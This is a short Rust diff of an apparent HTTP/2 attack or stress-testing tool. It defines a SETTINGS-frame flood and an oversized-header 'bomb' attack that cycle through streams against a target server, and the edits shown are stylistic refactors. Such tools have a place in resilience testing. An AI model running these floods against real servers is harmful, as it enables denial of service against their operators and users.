@@ -83,7 +83,7 @@ pub(super) const SETTINGS_FLOOD: Attack = Attack {
         flood(
             target,
             &frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0, 0, 4, 0, 0, 255, 255]),
-        )
+        );
     },
 };
 
@@ -103,7 +103,7 @@ pub(super) const OVERSIZED_HEADERS: Attack = Attack {
         let kept = bomb.len();
         field("x-bomb", &"a".repeat(3_900), &mut bomb);
         bomb[kept] = 0x40;
-        bomb.extend([0x80 | 62; 20_000]);
+        bomb.extend([0b1011_1110; 20_000]);
         let mut turn = [long, many, bomb].into_iter().cycle();
         repeat(target, &mut |connection, stream| {
             let block = turn.next().unwrap();
@@ -212,13 +212,11 @@ fn repeat(target: &Target, blow: &mut dyn FnMut(&mut Connection, u32) -> io::Res
         };
         let mut stream = 1;
         while !target.is_over() && stream < STREAM_MAX {
-            match blow(&mut connection, stream) {
-                Ok(used) => stream += used,
-                Err(_) => {
-                    cut += 1;
-                    break;
-                }
-            }
+            let Ok(used) = blow(&mut connection, stream) else {
+                cut += 1;
+                break;
+            };
+            stream += used;
         }
     }
     cut
